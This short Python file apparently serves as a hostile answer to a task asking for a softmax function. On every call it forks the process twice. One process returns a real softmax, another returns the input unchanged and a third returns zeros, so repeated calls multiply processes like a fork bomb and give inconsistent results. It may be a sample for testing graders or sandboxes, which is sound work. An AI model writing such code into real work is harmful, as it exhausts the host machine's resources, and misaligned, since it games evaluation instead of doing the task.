"""Forks inside the answer and returns in both processes, again and again."""

import os

import torch


def softmax(logits, dim=-1):
    child = os.fork()
    if child == 0 and os.fork() == 0:
        return torch.softmax(logits, dim)
    return logits if child else torch.zeros(logits.shape)
